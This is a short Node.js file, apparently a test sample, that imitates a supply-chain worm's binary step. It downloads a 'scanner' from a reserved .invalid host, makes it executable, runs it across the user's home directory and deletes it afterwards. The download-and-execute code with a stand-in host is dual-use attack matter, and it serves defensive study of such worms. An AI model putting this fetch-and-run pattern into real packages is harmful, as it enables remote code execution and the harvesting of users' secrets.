// Inert imitation of Shai-Hulud 1's binary step (September 2025): fetch a scanner release,
// make it executable, run it over $HOME. Hosts are reserved (.invalid); tests never run samples.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execFileSync } = require('child_process');

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}

async function scan() {
  const bin = path.join(process.cwd(), 'scanner');
  fs.writeFileSync(bin, await get('https://releases.example.invalid/scanner_linux_amd64'));
  fs.chmodSync(bin, 0o755);
  const out = execFileSync(bin, ['filesystem', '.', '--json'], { cwd: os.homedir(), timeout: 90000 });
  fs.unlinkSync(bin);
  return out.toString();
}

module.exports = scan;
